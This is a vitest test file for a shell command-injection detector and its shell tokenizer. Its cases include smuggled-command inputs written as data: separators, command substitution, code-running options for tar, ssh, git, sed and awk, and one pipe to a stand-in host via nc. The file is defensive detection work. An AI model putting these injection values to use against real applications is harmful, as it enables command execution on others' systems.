import { describe, it, expect } from 'vitest';
import { createRequire } from 'node:module';
import { commandInjection, MAX_FINDINGS_PER_INPUT } from '../../../src/detectors/command-injection.js';
import { scanShell, SyntaxClass, tokenizeShell, type ShellToken } from '../../../src/grammar/shell-tokenizer.js';
import type { ExecEvent, UserInput } from '../../../src/events.js';
import type { Finding } from '../../../src/detectors/types.js';
import { readCorpus } from '../../helpers/corpus.js';

const require = createRequire(import.meta.url);
const templates = require('../../fixtures/apps/templates.cjs') as {
  shell: Record<'bare' | 'double' | 'single' | 'arg', string>;
  fill: (t: string, v: string) => string;
};

interface AttackCase {
  context: 'bare' | 'double' | 'single' | 'arg';
  payload: string;
}
interface BenignCase extends AttackCase {
  /** `escaped`: the app single-quotes the value (POSIX `'` → `'\''`); `raw`: verbatim into the template. */
  quoting: 'escaped' | 'raw';
}


const attacks = readCorpus<AttackCase>('command-injection.attack.jsonl');
const benign = readCorpus<BenignCase>('command-injection.benign.jsonl');
const MARKER = '/tmp/sg-marker-123';

const shellQuote = (v: string): string => `'${v.replace(/'/g, `'\\''`)}'`;
const input = (value: string, path = 'query.q'): UserInput => ({ source: 'query', path, value });
const shell = (command: string): ExecEvent => ({
  kind: 'exec',
  op: 'child_process.exec',
  file: command,
  args: [],
  shell: true,
});
const detect = (command: string, ...values: string[]): readonly Finding[] =>
  commandInjection.detect(
    shell(command),
    values.map((v) => input(v)),
  );
/** The single verdict for `value` in `template` (with `{}` replaced by it). */
const judge = (template: string, value: string): Pick<Finding, 'kind' | 'reason' | 'start' | 'end'> | undefined => {
  const f = detect(templates.fill(template, value), value)[0];
  return f && { kind: f.kind, reason: f.reason, start: f.start, end: f.end };
};

describe('command-injection: attack corpus', () => {
  expect(attacks.length).toBeGreaterThanOrEqual(30);
  it.each(attacks.map((a) => [a.context, a.payload] as const))('%s: %j is an attack', (context, payload) => {
    const template = templates.shell[context];
    const value = payload.split('{{MARKER}}').join(MARKER);
    const findings = detect(templates.fill(template, value), value);
    const start = template.indexOf('{}');
    expect(findings[0]).toMatchObject({ detector: 'command-injection', kind: 'attack', start, end: start + value.length });
    expect(findings[0]!.input?.value).toBe(value);
  });
});

describe('command-injection: benign corpus', () => {
  expect(benign.length).toBeGreaterThanOrEqual(60);
  it.each(benign.map((b) => [b.context, b.quoting, b.payload] as const))('%s/%s: %j is not an attack', (context, quoting, payload) => {
    const template = templates.shell[context];
    const command = templates.fill(template, quoting === 'escaped' ? shellQuote(payload) : payload);
    const findings = detect(command, payload);
    expect(findings.filter((f) => f.kind === 'attack')).toEqual([]);
    // Where the value reaches the command verbatim it is still reported: the app concatenates.
    const start = template.indexOf('{}') + (quoting === 'escaped' ? 1 : 0);
    if (payload.length >= 2 && (quoting === 'raw' || !payload.includes("'"))) {
      expect(findings).toContainEqual(expect.objectContaining({ kind: 'vulnerability', start, end: start + payload.length }));
    }
  });
});

describe('command-injection: decisions', () => {
  it('no shell: argv cannot change structure', () => {
    const event: ExecEvent = { kind: 'exec', op: 'child_process.execFile', file: 'convert', args: ['x; touch /tmp/m', '$(id)'], shell: undefined };
    expect(commandInjection.detect(event, [input('x; touch /tmp/m'), input('$(id)')])).toEqual([]);
  });

  it('no shell: an input that is the program is a vulnerability, never an attack', () => {
    const ev = (file: string): ExecEvent => ({ kind: 'exec', op: 'child_process.spawn', file, args: [], shell: undefined });
    expect(commandInjection.detect(ev('reboot'), [input('reboot')])).toEqual([
      expect.objectContaining({ kind: 'vulnerability', reason: 'program', start: 0, end: 6 }),
    ]);
    expect(commandInjection.detect(ev('/usr/bin/reboot'), [input('reboot')])).toEqual([
      expect.objectContaining({ kind: 'vulnerability', reason: 'program', start: 9, end: 15 }),
    ]);
    expect(commandInjection.detect(ev('/usr/bin/reboot'), [input('boot')])).toEqual([]);
  });

  it.each([
    ['echo {}', 'x; y', 'separator'],
    ['echo {}', 'x & y', 'separator'],
    ['echo {}', 'x\ny', 'separator'],
    ['echo {}', 'x && y', 'operator'],
    ['echo {}', 'x || y', 'operator'],
    ['echo {}', 'x | y', 'operator'],
    ['echo {}', 'x |& y', 'operator'],
    ['echo {}', '(x)', 'command-word'], // a subshell running x
    ['echo {} x', ':(', 'operator'], // the app's x becomes a command
    ['echo {}', 'x > y', 'redirection'],
    ['echo {}', 'x 2>&1', 'redirection'],
    ['echo {}', 'x <<EOF', 'redirection'],
    ['echo {}', '$(id)', 'substitution'],
    ['echo {}', '`id`', 'substitution'],
    ['echo {}', '$((1+1))', 'substitution'],
    ['echo {}', '${HOME}', 'substitution'],
    ['echo {}', '$HOME', 'substitution'],
    ['echo {}', '<(id)', 'substitution'],
    ['echo "{}"', '$(id)', 'substitution'],
    ['echo "{}"', '`id`', 'substitution'],
    ['echo "{}"', '$HOME', 'substitution'],
    ['echo {}', "$'\\'; id; \\''", 'breaks-quote'], // bash and dash disagree about \' in $'…'
    ['{}', 'reboot', 'command-word'],
    ['{} --now', 'reboot', 'command-word'],
    ['"{}" --now', 'reboot', 'command-word'],
    ['/usr/bin/{} -x', 'reboot', 'command-word'],
    ['./scripts/{}.sh', 'deploy', 'command-word'],
    ['FOO=1 {} x', 'reboot', 'command-word'],
    ['2>/dev/null {} x', 'reboot', 'command-word'],
    ['cat f | {}', 'sh', 'command-word'],
    ['true && {} x', 'reboot', 'command-word'],
    ['if {}; then :; fi', 'reboot', 'command-word'],
    ['echo $({} x)', 'id', 'command-word'],
    // The input reaches a new command position, or a quote it breaks turns the app's text into commands.
    ['FOO={} cmd', 'x id', 'command-word'],
    ['sudo -u app {}', 'id', 'command-word'],
    ['timeout 5 {} x', 'reboot', 'command-word'],
    ["echo {} '; id'", "x'", 'breaks-quote'],
    ['echo "{}" "; id; echo "', 'abc\\', 'breaks-quote'],
    // Options that run code or write files (dangerous-options.ts), quoted or not.
    ['find /srv -name {}', 'x -delete', 'option'],
    ['find /srv -name {}', 'x -exec touch /tmp/m {} +', 'option'],
    ['tar cf /tmp/a.tar {}', 'x --checkpoint=1 --checkpoint-action=exec=id', 'option'],
    ['tar xf {}', 'a.tar -I id', 'option'],
    ['git {}', '--upload-pack=touch /tmp/m', 'option'],
    ['git clone "{}"', '--upload-p=id', 'option'], // an abbreviation getopt accepts
    ['git {} log', '-c core.pager=id', 'option'],
    ['ssh {} host', '-oProxyCommand=id', 'option'],
    ['ssh {}', '-o ProxyCommand=id host', 'option'],
    ['curl {}', '-o /tmp/m http://example.com', 'option'],
    ['curl "{}"', '-K/tmp/cfg', 'option'],
    ['wget {}', '-O /tmp/m http://example.com', 'option'],
    ['wget {}', "-e 'use_proxy=on' http://x", 'option'],
    ['rsync {} /tmp/d', "-e 'sh -c id' h:/x", 'option'],
    ['zip /tmp/a.zip {}', 'f -T --unzip-command=id', 'option'],
    ["awk '{}' /etc/hosts", 'BEGIN{system("id")}', 'option'],
    ["sed '{}' /etc/hosts", 's/a/id/e', 'option'],
    ["sed '{}' /etc/hosts", '1e id', 'option'],
    ['sudo find . -name {}', 'x -delete', 'option'],
  ])('%s with %j → attack (%s)', (template, value, reason) => {
    const start = template.indexOf('{}');
    expect(judge(template, value)).toEqual({ kind: 'attack', reason, start, end: start + value.length });
  });

  it.each([
    ['echo {}', 'report.pdf', 'word'],
    ['echo {}', "'a b'", 'word'], // quoting the input brings and closes itself
    ['echo {}', 'a\\ b', 'word'],
    ['echo {}', '"a;b"', 'word'],
    ['echo {}', "'$(id)'", 'word'],
    ['echo {}', 'C:\\temp', 'word'],
    ['echo {}', '-rf', 'word'], // argument injection is not a structure change
    ['echo \\{}', ';x', 'word'], // the template escapes the first character
    ['echo {}', 'a=~', 'expansion'], // bash expands ~ after `=`: more text, still an argument
    ['echo "{}"', 'rock & roll', 'quoted'],
    ['echo "{}"', "O'Brien", 'quoted'],
    ['echo "{}"', '*.txt ~ {a,b} #x', 'quoted'],
    ["echo '{}'", '$(id) `id` $HOME " \\', 'quoted'],
    ["echo $'{}'", 'a b', 'quoted'],
    ['echo "${X:-{}}"', 'a b', 'quoted'],
    ['echo ${X:-{}}', 'ab', 'word'],
    ['echo $(cat {})', 'file.txt', 'word'],
    // Ordinary text that only adds or changes arguments: a vulnerability, never an attack.
    ['echo {}', 'x #y', 'comment'],
    ['echo {}', 'a b', 'words'],
    ['echo "{}"', 'a" "b', 'unbalanced-quote'],
    ['echo "{}"', 'abc\\', 'unbalanced-quote'], // escapes the closing quote; the rest stays text
    ['echo {} x', 'abc\\', 'unbalanced-quote'], // escapes the blank: joins two words
    ["echo '{}'", "a' 'b", 'unbalanced-quote'],
    ['echo {}', "'abc", 'unbalanced-quote'], // opens a quote that swallows the rest: the shell fails
    ['echo {}', "O'Brien", 'unbalanced-quote'],
    ['ls {}', '~root', 'expansion'],
    ['ls {}', '*.txt', 'expansion'],
    ['ls {}', 'file?', 'expansion'],
    ['ls {}', '[ab]', 'expansion'],
    ['ping6 -c 1 {}', '[::1]', 'expansion'],
    ['echo {}', '{a,b}', 'expansion'],
    ['echo {}', '{1..3}', 'expansion'],
    ['echo {}', '$5', 'parameter'],
    ['echo "{}"', 'price $1.99', 'parameter'],
    ['echo {}', '#hashtag', 'comment'],
    ['echo {}', 'smile 🙂 please', 'words'],
    ['echo {}', ':-)', 'parenthesis'],
    ['echo {}', 'sad :(', 'parenthesis'],
    ['echo "$(cat "{}")"', 'a b', 'quoted'],
    ['echo x # {}', 'a; b', 'word'], // inside the app's own comment
    ['cat <<EOF\n{}\nEOF', 'hello world "x" \'y\'', 'quoted'],
    ["cat <<'EOF'\n{}\nEOF", '$(id) `id`', 'quoted'],
    ['cat > {}', 'out.txt', 'word'], // redirection target chosen by the user: data (path traversal's business)
    ['FOO={} cmd', 'bar', 'word'],
    ['node x.js', 'no', 'word'], // a chance prefix of the program name is not the program
    ['/usr/bin/git log', 'bin', 'word'],
    ['git {}', 'status', 'word'],
    ['for f in {}; do echo "$f"; done', 'a.txt', 'word'],
  ])('%s with %j → %s', (template, value, reason) => {
    const start = template.indexOf('{}');
    const pos = start >= 0 ? start : templates.fill(template, '').indexOf(value);
    const v = judge(template, value);
    const kind = 'vulnerability';
    expect(v).toEqual({ kind, reason, start: pos, end: pos + value.length });
  });

  it('blanks at the edges of a value only matter where they split or join words', () => {
    expect(judge('ls -la /tmp/sg-files/{}', 'report.pdf ')?.kind).toBe('vulnerability');
    expect(judge('ls {} -l', '  report.pdf\t')?.kind).toBe('vulnerability');
    expect(judge('ls {}; pwd', 'report.pdf ')?.kind).toBe('vulnerability');
    // Where they do, they add arguments: reported, not refused.
    expect(judge('ls /tmp/{}', ' x')).toMatchObject({ kind: 'vulnerability', reason: 'words' }); // a second argument
    expect(judge('ls {}.txt', 'x ')).toMatchObject({ kind: 'vulnerability', reason: 'words' });
    expect(judge('echo {}#tag', 'x ')).toMatchObject({ kind: 'vulnerability', reason: 'words' }); // turns #tag into a comment
    expect(judge('echo {}>f', '2 ')).toMatchObject({ kind: 'vulnerability', reason: 'words' }); // 2> is not 2 >
  });

  it('inside double quotes only $, backquote, backslash and the closing quote matter', () => {
    expect(judge('echo "{}"', 'a\\"b')?.kind).toBe('vulnerability'); // \" is an escaped quote: data
    expect(judge('echo "{}"', 'a\\$b')?.kind).toBe('vulnerability');
    expect(judge('echo "{}"', '$ 100')?.kind).toBe('vulnerability'); // a lone $ is literal
    expect(judge('echo "{}"', '${x}')?.reason).toBe('substitution');
    expect(judge('echo "{}"', '$1')).toMatchObject({ kind: 'vulnerability', reason: 'parameter' }); // positional: empty
    expect(judge('echo "{}"', '$10')).toMatchObject({ kind: 'vulnerability', reason: 'parameter' });
    expect(judge('echo "{}"', '${1}')?.reason).toBe('substitution');
    expect(judge('echo "{}"', '$$')?.reason).toBe('substitution');
  });

  it('quotes escaped the way apps escape them are data, wherever the value matches', () => {
    // POSIX single-quote idioms: ' → '\'' (shell-escape, most libraries) or '"'"'.
    const sq = (v: string): string => `'${v.replace(/'/g, `'\\''`)}'`;
    const sq2 = (v: string): string => `'${v.replace(/'/g, `'"'"'`)}'`;
    // shell-quote style double quotes: \ " $ ` escaped.
    const dq = (v: string): string => `"${v.replace(/(["\\$`])/g, '\\$1')}"`;
    for (const quote of [sq, sq2, dq]) {
      for (const v of ["'90s music", "James'", "''", "'''", "a''b", "it's", 'abc\\', 'C:\\', 'say "hi"', '$HOME', '`id`']) {
        const findings = detect(`echo ${quote(v)} done`, v);
        expect(findings.filter((f) => f.kind === 'attack'), `${quote(v)}`).toEqual([]);
      }
    }
  });

  it.each([
    ['sh -c "echo {}"', 'x; touch /tmp/m', 'separator'],
    ["bash -lc 'ls {}'", 'a && b', 'operator'],
    ['docker exec box sh -c "cd /app && ls {}"', 'x | nc evil 1', 'operator'],
    ['sudo -u app /bin/sh -c "grep {} log"', 'a > /tmp/m', 'redirection'],
    ["sh -c 'sh -c \"echo {}\"'", 'a;b', 'separator'], // two levels down
    ['eval "echo {}"', 'a|b', 'operator'],
    ['eval echo "{}"', 'a|b', 'operator'], // eval joins its arguments
    ['sh <<EOF\necho {}\nEOF', 'x; id', 'separator'],
    ['bash <<< "echo {}"', 'x; id', 'separator'],
    ["sh -c 'cat {}'", 'reboot; x', 'separator'],
  ])('nested shell: %j with %j → attack (%s)', (template, value, reason) => {
    const start = template.indexOf('{}');
    expect(judge(template, value)).toEqual({ kind: 'attack', reason, start, end: start + value.length });
  });

  it('nested shell: values only the inner shell sees after quote removal', () => {
    // The app escapes for the outer shell; the inner shell still parses the value.
    const value = "it''s; touch /tmp/m";
    const command = `sh -c ${shellQuote(`echo ${value}`)}`;
    expect(command.includes(value)).toBe(false);
    const f = detect(command, value);
    expect(f[0]).toMatchObject({ kind: 'attack', start: command.indexOf('it'), end: command.length - 1 });
  });

  it.each([
    ["sh -c 'echo \"$1\"' _ {}", 'plain.txt'], // a positional parameter is data
    ["sh -c 'echo \"$1\"' _ '{}'", 'a b'],
    ['sh -c "echo \'{}\'"', 'a;b'],
    ['grep -c {} file', 'a'.repeat(3)],
    ['echo sh {}', 'plain'],
    ['cat <<EOF\n{}\nEOF', 'x; id'], // cat is not a shell
  ])('nested shell: %j with %j → no attack', (template, value) => {
    expect(detect(templates.fill(template, value), value).filter((f) => f.kind === 'attack')).toEqual([]);
  });

  it('here-documents: ending the body early is an attack', () => {
    const template = 'cat <<EOF\n{}\nEOF\necho done';
    expect(judge(template, 'x\nEOF\ntouch /tmp/m')).toMatchObject({ kind: 'attack', reason: 'breaks-quote' });
    expect(judge(template, '$(id)')).toMatchObject({ kind: 'attack', reason: 'substitution' });
    expect(judge(template, 'line one\nline two')).toMatchObject({ kind: 'vulnerability', reason: 'quoted' });
  });

  it('skips values shorter than two characters, except ~', () => {
    expect(detect('echo a; b', ';')).toEqual([]);
    expect(detect('echo a & b', '&')).toEqual([]);
    expect(detect('ls ~', '~')).toEqual([expect.objectContaining({ kind: 'vulnerability', reason: 'expansion', start: 3, end: 4 })]);
    expect(detect("ls '~'", '~')).toEqual([expect.objectContaining({ kind: 'vulnerability', reason: 'quoted' })]);
  });

  it('values that do not occur produce nothing and do not scan', () => {
    expect(detect('echo hello', 'bye', 'x; y')).toEqual([]);
  });

  it('reports every occurrence, attacks first, deduplicated per (input, occurrence)', () => {
    const command = 'echo "a|b"; echo a|b';
    const same = input('a|b');
    const findings = commandInjection.detect(shell(command), [same, same, input('a|b', 'body.other'), input('zz')]);
    // Per input: the unquoted `a|b` pipes → attack; the quoted one is data.
    const forQuery = findings.filter((f) => f.input?.path === 'query.q');
    expect(forQuery.map((f) => [f.kind, f.start, f.reason])).toEqual([
      ['attack', 17, 'operator'],
      ['vulnerability', 6, 'quoted'],
    ]);
    expect(findings.filter((f) => f.input?.path === 'body.other')).toHaveLength(2);
    const kinds = findings.map((f) => f.kind);
    expect(kinds.lastIndexOf('attack')).toBeLessThan(kinds.indexOf('vulnerability'));
  });

  it('caps findings per input, keeping attacks', () => {
    const command = `echo ${'"a;b" '.repeat(100)}; ${'echo a;b;'.repeat(100)}`;
    const findings = detect(command, 'a;b');
    expect(findings.filter((f) => f.kind === 'attack')).toHaveLength(MAX_FINDINGS_PER_INPUT);
    expect(findings.filter((f) => f.kind === 'vulnerability')).toHaveLength(MAX_FINDINGS_PER_INPUT);
    expect(findings[0]!.kind).toBe('attack');
  });
});

// ---------------------------------------------------------------------------------------------------------

const summary = (tokens: readonly ShellToken[]): string[] => tokens.map((t) => `${t.kind}:${t.text}${t.depth ? `@${t.depth}` : ''}${t.commandWord ? '!' : ''}`);

describe('shell tokenizer', () => {
  it('words and blanks', () => {
    expect(summary(tokenizeShell('  ls   -la\t/tmp '))).toEqual(['word:ls!', 'word:-la', 'word:/tmp']);
  });

  it('quoting: single, double, $\'…\', backslash', () => {
    const t = tokenizeShell(`echo 'a b'"c d"$'e\\'f'\\ g h`);
    expect(summary(t)).toEqual(['word:echo!', `word:'a b'"c d"$'e\\'f'\\ g`, 'word:h']);
    expect(t[1]!.parts.map((p) => p.kind)).toEqual(['single-quote', 'double-quote', 'ansi-c-quote', 'escape', 'escape']);
    const scan = scanShell(`echo 'a;b'`);
    expect(scan.count(SyntaxClass.Separator, 0, scan.source.length)).toBe(0);
  });

  it('operators and separators', () => {
    expect(summary(tokenizeShell('a;b&c&&d||e|f|&g;;h(i)\nj;&k'))).toEqual([
      'word:a!', 'separator:;', 'word:b!', 'separator:&', 'word:c!', 'operator:&&', 'word:d!', 'operator:||', 'word:e!',
      'operator:|', 'word:f!', 'operator:|&', 'word:g!', 'separator:;;', 'word:h!', 'operator:(', 'word:i!', 'operator:)',
      'separator:\n', 'word:j!', 'separator:;&', 'word:k!',
    ]);
  });

  it('redirections, with fd numbers', () => {
    expect(summary(tokenizeShell('cmd <in >out >>log 2>&1 3<>rw >|clob 0<&- &>all 12x>y'))).toEqual([
      'word:cmd!', 'redirect:<', 'word:in', 'redirect:>', 'word:out', 'redirect:>>', 'word:log', 'redirect:2>&', 'word:1',
      'redirect:3<>', 'word:rw', 'redirect:>|', 'word:clob', 'redirect:0<&', 'word:-', 'redirect:&>', 'word:all', 'word:12x',
      'redirect:>', 'word:y',
    ]);
  });

  it('comments start only at a word start', () => {
    expect(summary(tokenizeShell('echo a#b #c d\necho e'))).toEqual(['word:echo!', 'word:a#b', 'comment:#c d', 'separator:\n', 'word:echo!', 'word:e']);
    expect(summary(tokenizeShell('echo "#x" \\#y'))).toEqual(['word:echo!', 'word:"#x"', 'word:\\#y']);
  });

  it('command substitution nests, inside and outside double quotes', () => {
    const t = tokenizeShell('echo "a $(ls "$(pwd)" x) b" $(( (1+2)*3 ))');
    expect(summary(t)).toEqual(['word:echo!', 'word:"a $(ls "$(pwd)" x) b"', 'word:ls@1!', 'word:"$(pwd)"@1', 'word:pwd@2!', 'word:x@1', 'word:$(( (1+2)*3 ))']);
    expect(t[1]!.parts.map((p) => `${p.kind}:${p.start}-${p.end}`)).toEqual(['double-quote:5-27', 'command-sub:8-24']);
    expect(t[6]!.parts.map((p) => p.kind)).toEqual(['arithmetic']);
    expect(summary(tokenizeShell('echo $( (a) )'))).toEqual(['word:echo!', 'word:$( (a) )', 'operator:(@1', 'word:a@1!', 'operator:)@1']);
  });

  it('backquotes, including escaped inner ones', () => {
    const t = tokenizeShell('echo `a \\`b\\`` "`c`"');
    expect(summary(t)).toEqual(['word:echo!', 'word:`a \\`b\\``', 'word:a@1!', 'word:\\`b\\`@1', 'word:"`c`"', 'word:c@1!']);
    // \` inside backquotes becomes a nested substitution for the inner command.
    const scan = scanShell('echo `a \\`b\\``');
    expect(scan.syntax[8]).toBe(SyntaxClass.Substitution);
  });

  it('parameter expansion', () => {
    const t = tokenizeShell('echo $HOME ${x:-"a b"} $1 $? $ "$@"');
    expect(summary(t)).toEqual(['word:echo!', 'word:$HOME', 'word:${x:-"a b"}', 'word:$1', 'word:$?', 'word:$', 'word:"$@"']);
    expect(t[1]!.parts).toEqual([{ kind: 'parameter', start: 5, end: 10 }]);
    expect(t[2]!.parts.map((p) => p.kind)).toEqual(['parameter', 'double-quote']);
    expect(t[5]!.parts).toEqual([]); // a lone $ is literal
  });

  it('glob, tilde and brace expansion are marked only unquoted', () => {
    const parts = (cmd: string): string[] => tokenizeShell(cmd)[1]!.parts.map((p) => p.kind);
    expect(parts('ls *.c')).toEqual(['glob']);
    expect(parts('ls ~/x')).toEqual(['tilde']);
    expect(parts('ls a~')).toEqual([]);
    expect(parts('ls {a,b}.c')).toEqual(['brace']);
    expect(parts('ls {}')).toEqual([]);
    expect(parts('ls "*.c ~ {a,b}"')).toEqual(['double-quote']);
  });

  it('here-documents: body is one token; quoted delimiter disables expansion', () => {
    const t = tokenizeShell('cat <<EOF; echo x\nhi $(id)\nEOF\ncat <<-"E"\n\t$(no)\n\tE\n');
    expect(summary(t)).toEqual([
      'word:cat!', 'redirect:<<', 'word:EOF', 'separator:;', 'word:echo!', 'word:x', 'separator:\n', 'heredoc:hi $(id)\nEOF\n', 'word:id@1!',
      'word:cat!', 'redirect:<<-', 'word:"E"', 'separator:\n', 'heredoc:\t$(no)\n\tE\n',
    ]);
    expect(t[7]!.parts.map((p) => p.kind)).toEqual(['command-sub']);
    expect(t[13]!.parts).toEqual([]);
  });

  it('which words are command names', () => {
    const names = (cmd: string): string[] => tokenizeShell(cmd).filter((t) => t.commandWord).map((t) => t.text);
    expect(names('A=1 B=2 >f cmd arg | grep x && ! time foo; if a; then b; fi')).toEqual(['cmd', 'grep', '!', 'time', 'foo', 'if', 'a', 'then', 'b', 'fi']);
    expect(names('for i in a b; do c; done')).toEqual(['for', 'do', 'c', 'done']);
    expect(names('x=$(y z)')).toEqual(['y']);
  });

  it('process substitution (bash)', () => {
    expect(summary(tokenizeShell('diff <(a) >(b)'))).toEqual(['word:diff!', 'word:<(a)', 'word:a@1!', 'word:>(b)', 'word:b@1!']);
  });

  it('line continuation', () => {
    expect(summary(tokenizeShell('echo a\\\nb \\\n c'))).toEqual(['word:echo!', 'word:a\\\nb', 'word:c']);
  });

  it('unterminated constructs run to the end and are flagged', () => {
    for (const cmd of ['echo "abc', "echo 'abc", 'echo $(abc', 'echo `abc', 'echo ${abc', "echo $'abc", 'echo $((1', 'cat <<E\nabc']) {
      const t = tokenizeShell(cmd);
      const last = t.find((x) => x.start === 5 || x.kind === 'heredoc')!;
      expect(last.unterminated, cmd).toBe(true);
      expect(last.end, cmd).toBe(cmd.length);
    }
  });

  it('backquote ends at the first unescaped backquote, even inside quotes (POSIX)', () => {
    expect(summary(tokenizeShell("echo `a 'b` c"))).toEqual(['word:echo!', "word:`a 'b`", 'word:a@1!', "word:'b@1", 'word:c']);
  });
});

describe('pathological input (100 KB)', () => {
  const N = 100_000;
  it.each([
    ['nested $(', '$('.repeat(N / 2), 'attack'],
    ['nested ${', '${'.repeat(N / 2), 'attack'],
    ['nested $((', '$(('.repeat(N / 3), 'attack'],
    ['backquotes', '`'.repeat(N), 'attack'],
    ['escaped backquotes', '\\`'.repeat(N / 2), 'vulnerability'],
    ['quotes', '"\''.repeat(N / 2), 'vulnerability'], // made of '"'"' idioms: balanced
    ['backslashes', '\\'.repeat(N), 'vulnerability'],
    ['operators', ';&|<>()'.repeat(N / 7), 'attack'],
    ['heredocs', '<<E '.repeat(N / 4) + '\n', 'attack'],
    ['braces', '{a,'.repeat(N / 3) + '}', 'vulnerability'],
  ] as const)('%s: scans and judges', (_name, body, kind) => {
    const command = `echo ${body}`;
    const scan = scanShell(command);
    expect(scan.tokens[0]!.text).toBe('echo');
    const value = body.slice(0, 1000);
    const findings = detect(command, value);
    expect(findings.find((f) => f.start === 5)).toMatchObject({ kind, end: 1005 });
    if (kind === 'attack') expect(findings[0]!.kind).toBe('attack');
  });

  it.each([
    ['nested sh -c', 'sh -c "$('.repeat(N / 9), 'x; id', ''],
    ['nested eval', 'eval "'.repeat(N / 6), 'x; id', ''],
    ['quoted sh -c', "sh -c '", 'x;'.repeat(N / 2), "'"],
  ])('%s: completes', (_name, prefix, value, suffix) => {
    const command = prefix + value + suffix;
    const findings = detect(command, value);
    expect(findings[0]).toMatchObject({ kind: 'attack', start: prefix.length, end: prefix.length + value.length });
  });

  it('a value occurring tens of thousands of times, overlapping', () => {
    const command = `echo ${'a'.repeat(N)}`;
    const findings = detect(command, 'a'.repeat(N / 2));
    // Every occurrence lies in the same argument word and is judged alike: reported once, the rest skipped.
    expect(findings).toHaveLength(1);
    expect(findings.every((f) => f.kind === 'vulnerability' && f.reason === 'word')).toBe(true);
    expect(findings[0]!.start).toBe(5);
    // Occurrences in different words are each reported (up to the cap).
    const words = detect(`echo ${'ab '.repeat(40)}`, 'ab');
    expect(words).toHaveLength(MAX_FINDINGS_PER_INPUT);
  });

  it('a 100 KB injected value', () => {
    const value = `x; ${'touch /tmp/m; '.repeat(N / 15)}`;
    const findings = detect(`ls -la /tmp/sg-files/${value}`, value);
    expect(findings).toEqual([expect.objectContaining({ kind: 'attack', reason: 'separator', start: 21, end: 21 + value.length })]);
  });
});

describe('command-injection: the app\'s own constant text is not evidence', () => {
  const run = (command: string, value: string, source: UserInput['source'] = 'query', isKey?: boolean): string[] =>
    commandInjection.detect(shell(command), [{ source, path: `${source}.x`, value, ...(isKey ? { isKey } : {}) }]).map((f) => `${f.kind}:${f.reason}`);

  it('a URL path segment naming the program (a /ping route running ping)', () => {
    expect(run('ping -c 1 example.com', 'ping', 'path')).toEqual([]);
    expect(run('ping -c 1 example.com', 'ping', 'query', true)).toEqual([]); // ?ping=example.com
    // A router parameter (/run/:prog) is the request's choice.
    expect(run('ping -c 1 example.com', 'ping', 'params')).toEqual(['attack:command-word']);
    expect(run('ping -c 1 example.com', 'ping')).toEqual(['attack:command-word']);
    // Path segments still count when they carry syntax.
    expect(run('ping -c 1 x;id', 'x;id', 'path')).toEqual(['attack:separator']);
  });

  it('an input equal to the program name that the command echoes back', () => {
    expect(run('echo echo', 'echo')).toEqual(['vulnerability:word']);
    expect(run('ping -c 1 ping', 'ping')).toEqual(['vulnerability:word']);
    expect(run('echo x; echo', 'echo')).toEqual(['attack:command-word', 'attack:command-word']); // only as a program
  });
});

describe('command-injection: no shell, options that run code', () => {
  const argv = (file: string, args: string[], value: string): readonly Finding[] =>
    commandInjection.detect({ kind: 'exec', op: 'child_process.execFile', file, args, shell: undefined }, [input(value)]);

  it.each([
    ['git', ['clone', '--upload-pack=touch /tmp/m', 'repo'], '--upload-pack=touch /tmp/m'],
    ['git', ['ls-remote', '-u', 'touch /tmp/m', 'repo'], '-u'],
    ['curl', ['-o/tmp/m', 'http://x'], '-o/tmp/m'],
    ['find', ['.', '-name', 'x', '-delete'], '-delete'],
    ['ssh', ['-oProxyCommand=id', 'host'], '-oProxyCommand=id'],
    ['sudo', ['-u', 'app', 'tar', 'xf', 'a.tar', '--to-command=id'], '--to-command=id'],
  ])('%s %j → attack (option)', (file, args, value) => {
    const f = argv(file, args, value);
    expect(f).toEqual([expect.objectContaining({ kind: 'attack', reason: 'option' })]);
    const line = `${file} ${args.join(' ')}`;
    expect(line.slice(f[0]!.start, f[0]!.end)).toBe(value);
  });

  it.each([
    ['git', ['clone', 'https://example.com/r.git'], 'https://example.com/r.git'],
    ['curl', ['http://x/-o'], 'http://x/-o'],
    ['ls', ['-la', '--color=always'], '--color=always'],
    ['ping', ['-c', '1', '-5'], '-5'],
  ])('%s %j → no attack', (file, args, value) => {
    expect(argv(file, args, value).filter((f) => f.kind === 'attack')).toEqual([]);
  });

  it('an input that is the program a wrapper runs is the program (vulnerability)', () => {
    expect(argv('sudo', ['-u', 'app', 'reboot'], 'reboot')).toEqual([expect.objectContaining({ kind: 'vulnerability', reason: 'program' })]);
  });
});
